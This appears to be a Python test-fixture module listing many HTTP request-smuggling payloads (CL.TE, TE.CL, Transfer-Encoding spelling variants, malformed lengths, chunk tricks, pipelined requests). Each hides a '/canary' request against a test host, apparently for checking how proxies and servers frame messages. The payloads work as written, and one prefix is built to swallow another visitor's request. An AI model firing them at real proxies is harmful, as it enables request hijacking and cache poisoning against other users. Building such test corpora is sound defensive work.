"""Request smuggling: payloads that make a proxy and a server disagree about where a message ends.

Known ones (CL.TE, TE.CL, TE.TE, CL.0, H2.CL downgraded, folding, chunk tricks), as bytes that one client sends to the
proxy. In each stands a request for ``/canary``, which somebody may take for a request of its own.
"""

from typing import NamedTuple

SECOND = b"GET /canary HTTP/1.1\r\nHost: s.test\r\n\r\n"
PREFIX = b"GET /canary HTTP/1.1\r\nHost: s.test\r\nX-Swallow: "
"""A request that ends with whatever comes next: the next visitor's request, if this is taken for one."""


class Payload(NamedTuple):
    """``is_body``: by every reading the canary is part of a body, or of a message that has to be refused."""

    name: str
    data: bytes
    is_body: bool


def _request(line: bytes, fields: bytes | tuple[bytes, ...], body: bytes) -> bytes:
    given = (fields,) if isinstance(fields, bytes) else fields
    return b"\r\n".join([line, b"Host: s.test", *given]) + b"\r\n\r\n" + body


def _post(fields: bytes | tuple[bytes, ...], body: bytes) -> bytes:
    return _request(b"POST /sink HTTP/1.1", fields, body)


def _length(body: bytes) -> bytes:
    return b"Content-Length: %d" % len(body)


def _chunk(body: bytes) -> bytes:
    return b"%x\r\n%s\r\n" % (len(body), body)


_END = b"0\r\n\r\n"
_TE = b"Transfer-Encoding: chunked"

# The length covers all, the chunks end before the canary: who goes by the chunks sees two requests (CL.TE).
_CL_TE = _END + PREFIX
# The chunks cover all, the length ends after the first chunk's size (TE.CL).
_TE_CL = _chunk(SECOND) + _END
_FIRST_LINE = b"Content-Length: %d" % (len(_TE_CL.partition(b"\r\n")[0]) + 2)

_TWO_FRAMINGS = {
    "cl-te": _post((_length(_CL_TE), _TE), _CL_TE),
    "te-before-cl": _post((_TE, _length(_CL_TE)), _CL_TE),
    "te-cl": _post((_FIRST_LINE, _TE), _TE_CL),
    "te-cl-lower": _post((_FIRST_LINE.lower(), _TE.lower()), _TE_CL),
    "te-cl-10": _request(b"POST /sink HTTP/1.0", (b"Connection: keep-alive", _FIRST_LINE, _TE), _TE_CL),
    "te-10": _request(b"POST /sink HTTP/1.0", (b"Connection: keep-alive", _TE), _END + PREFIX),
}

# Spellings of Transfer-Encoding that one side may overlook. The length covers all of it.
_SPELLINGS = {
    "xchunked": b"Transfer-Encoding: xchunked",
    "space-colon": b"Transfer-Encoding : chunked",
    "tab-colon": b"Transfer-Encoding\t: chunked",
    "no-space": b"Transfer-Encoding:chunked",
    "tab": b"Transfer-Encoding:\tchunked",
    "vertical-tab": b"Transfer-Encoding: \x0bchunked",
    "form-feed": b"Transfer-Encoding: chunked\x0c",
    "nul": b"Transfer-Encoding: chunked\x00",
    "nul-name": b"Transfer-Encoding\x00: chunked",
    "space-name": b" Transfer-Encoding: chunked",
    "folded": b"Transfer-Encoding:\r\n chunked",
    "folded-list": b"Transfer-Encoding: identity,\r\n\tchunked",
    "behind-lf": b"X: y\nTransfer-Encoding: chunked",
    "behind-cr": b"X: y\rTransfer-Encoding: chunked",
    "quoted": b'Transfer-Encoding: "chunked"',
    "comma": b"Transfer-Encoding: chunked,",
    "comma-first": b"Transfer-Encoding: ,chunked",
    "identity": b"Transfer-Encoding: identity",
    "identity-chunked": b"Transfer-Encoding: identity, chunked",
    "chunked-identity": b"Transfer-Encoding: chunked, identity",
    "parameter": b"Transfer-Encoding: chunked;x=y",
    "upper": b"TRANSFER-ENCODING: CHUNKED",
    "underscore": b"Transfer_Encoding: chunked",
    "two-lines": b"Transfer-Encoding: chunked\r\nTransfer-Encoding: identity",
    "two-lines-cow": b"Transfer-Encoding: chunked\r\nTransfer-encoding: cow",
    "high-bit": b"Transfer-Encoding: chunked\xa0",
    "in-connection": b"Connection: Transfer-Encoding\r\nTransfer-Encoding: chunked",
}

# Lengths that one side may read otherwise. What they say literally covers the canary, or nothing.
_WHOLE = len(SECOND)
_LENGTHS = {
    "plus": b"Content-Length: +%d" % _WHOLE,
    "minus": b"Content-Length: -%d" % _WHOLE,
    "spaces": b"Content-Length:   %d  " % _WHOLE,
    "space-in": b"Content-Length: %d 0" % _WHOLE,
    "list-same": b"Content-Length: %d, %d" % (_WHOLE, _WHOLE),
    "list-other": b"Content-Length: 0, %d" % _WHOLE,
    "double-same": b"Content-Length: %d\r\nContent-Length: %d" % (_WHOLE, _WHOLE),
    "double-zero-first": b"Content-Length: 0\r\nContent-Length: %d" % _WHOLE,
    "double-zero-last": b"Content-Length: %d\r\nContent-Length: 0" % _WHOLE,
    "hex": b"Content-Length: 0x%x" % _WHOLE,
    "zeros": b"Content-Length: 000%d" % _WHOLE,
    "underscore": b"Content_Length: 0\r\nContent-Length: %d" % _WHOLE,
    "space-colon": b"Content-Length : %d" % _WHOLE,
    "folded": b"Content-Length:\r\n %d" % _WHOLE,
    "nul": b"Content-Length: %d\x00" % _WHOLE,
    "wraps": b"Content-Length: %d" % (2**64 + _WHOLE),
    "in-connection": b"Connection: Content-Length\r\nContent-Length: %d" % _WHOLE,
}

_CHUNKS = {
    "body": _chunk(SECOND) + _END,
    "extension": b"%x;a=b\r\n%s\r\n0\r\n\r\n" % (_WHOLE, SECOND),
    "extension-lf": b"%x;a\n%s\r\n0\r\n\r\n" % (_WHOLE, SECOND),
    "extension-cr": b"2;\rxx\r\nxx\r\n0\r\n\r\n" + PREFIX,
    "size-0x": b"0x%x\r\n%s\r\n0\r\n\r\n" % (_WHOLE, SECOND),
    "size-plus": b"+%x\r\n%s\r\n0\r\n\r\n" % (_WHOLE, SECOND),
    "size-minus": b"-1\r\n" + SECOND,
    "size-space": b"%x \r\n%s\r\n0\r\n\r\n" % (_WHOLE, SECOND),
    "size-wraps": b"1%016x\r\n%s\r\n0\r\n\r\n" % (_WHOLE, SECOND),
    "size-empty": b"\r\n" + SECOND,
    "size-wrong": b"2\r\nxxx\r\n0\r\n\r\n",
    "bare-lf": b"%x\n%s\n0\n\n" % (_WHOLE, SECOND),
    "last-lf": _chunk(SECOND) + b"0\n\n",
    "bare-cr": b"%x\r%s\r0\r\r" % (_WHOLE, SECOND),
    "no-crlf-after": b"%x\r\n%s0\r\n\r\n" % (_WHOLE, SECOND),
    "two-bytes-after": b"3\r\nabcXY%x\r\n%s\r\n0\r\n\r\n" % (_WHOLE, SECOND),
    "trailer": b"0\r\nX-Trailer: y\r\nContent-Length: 5\r\n\r\n",
    "never-ends": _chunk(SECOND),
}

_OTHERS = {
    "get-with-body": _request(b"GET /sink HTTP/1.1", _length(SECOND), SECOND),
    "get-with-prefix": _request(b"GET /sink HTTP/1.1", _length(PREFIX), PREFIX),
    "get-with-chunks": _request(b"GET /sink HTTP/1.1", _TE, _chunk(SECOND) + _END),
    "head-with-body": _request(b"HEAD /sink HTTP/1.1", _length(SECOND), SECOND),
    "delete-with-body": _request(b"DELETE /sink HTTP/1.1", _length(SECOND), SECOND),
    "options-star-with-body": _request(b"OPTIONS * HTTP/1.1", _length(SECOND), SECOND),
    "healthz-with-body": _request(b"POST /healthz HTTP/1.1", _length(SECOND), SECOND),
    "405-with-body": _request(b"POST /victim-0 HTTP/1.1", _length(SECOND), SECOND),
    "404-with-body": _request(b"POST /nothing HTTP/1.1", _length(SECOND), SECOND),
    "body-is-short": _post(b"Content-Length: 500", SECOND),
    "expect": _post((b"Expect: 100-continue", _length(SECOND)), SECOND),
    "expect-odd": _post((b"Expect: y 100-continue", _length(SECOND)), SECOND),
    "expect-get": _request(b"GET /sink HTTP/1.1", (b"Expect: 100-continue", _length(SECOND)), SECOND),
    "upgrade-with-body": _post((b"Connection: Upgrade", b"Upgrade: websocket", _length(SECOND)), SECOND),
    "upgrade-h2c-with-body": _post(
        (b"Connection: Upgrade, HTTP2-Settings", b"Upgrade: h2c", b"HTTP2-Settings: AAMAAABkAAQAAP__", _length(SECOND)),
        SECOND,
    ),
    "close-with-body": _post((b"Connection: close", _length(SECOND)), SECOND),
    "absolute-with-body": _request(b"POST http://other.example/sink HTTP/1.1", _length(SECOND), SECOND),
}

# What follows is a request of its own by the book: it may be answered, if the proxy asks it.
_PIPELINED = {
    "cl-0": _post(b"Content-Length: 0", SECOND),
    "no-length": _request(b"POST /sink HTTP/1.1", (), PREFIX),
    "get-then-prefix": _request(b"GET /sink HTTP/1.1", (), PREFIX),
    "upgrade-websocket": _request(b"GET /sink HTTP/1.1", (b"Connection: Upgrade", b"Upgrade: websocket"), SECOND),
    "upgrade-h2c": _request(
        b"GET /sink HTTP/1.1",
        (b"Connection: Upgrade, HTTP2-Settings", b"Upgrade: h2c", b"HTTP2-Settings: AAMAAABkAAQAAP__"),
        SECOND,
    ),
    "connect": b"CONNECT s.test:80 HTTP/1.1\r\nHost: s.test:80\r\n\r\n" + SECOND,
    "expect-get-then": _request(b"GET /sink HTTP/1.1", b"Expect: 100-continue", SECOND),
    "absolute-mismatch": b"GET http://other.example/sink HTTP/1.1\r\nHost: s.test\r\n\r\n" + SECOND,
    "two-hosts": b"GET /sink HTTP/1.1\r\nHost: s.test\r\nHost: other.example\r\n\r\n" + SECOND,
    "lf-lines": b"GET /sink HTTP/1.1\nHost: s.test\n\n" + SECOND,
    "target-with-crlf": b"GET /sink%0d%0aContent-Length:%2030%0d%0a%0d%0a HTTP/1.1\r\nHost: s.test\r\n\r\n" + SECOND,
    "space-in-target": b"GET /sink HTTP/1.1\r\nX: y HTTP/1.1\r\nHost: s.test\r\n\r\n" + SECOND,
    "http-20": b"POST /sink HTTP/2.0\r\nHost: s.test\r\nContent-Length: 0\r\n\r\n" + SECOND,
    "http-09": b"GET /sink\r\n" + SECOND,
    "fold-first": b"GET /sink HTTP/1.1\r\n Host: s.test\r\nHost: s.test\r\n\r\n" + SECOND,
    "crlfs-first": b"\r\n\r\n" + _post(b"Content-Length: 0", SECOND),
}


def _all(kind: str, payloads: dict[str, bytes], *, is_body: bool) -> list[Payload]:
    return [Payload(f"{kind}/{name}", data, is_body) for name, data in payloads.items()]


PAYLOADS = [
    *_all("two-framings", _TWO_FRAMINGS, is_body=False),
    *_all("spelling", {name: _post((_length(_CL_TE), te), _CL_TE) for name, te in _SPELLINGS.items()}, is_body=False),
    *_all("length", {name: _post(length, SECOND) for name, length in _LENGTHS.items()}, is_body=False),
    *_all("chunks", {name: _post(_TE, body) for name, body in _CHUNKS.items()}, is_body=True),
    *_all("other", _OTHERS, is_body=True),
    *_all("pipelined", _PIPELINED, is_body=False),
]
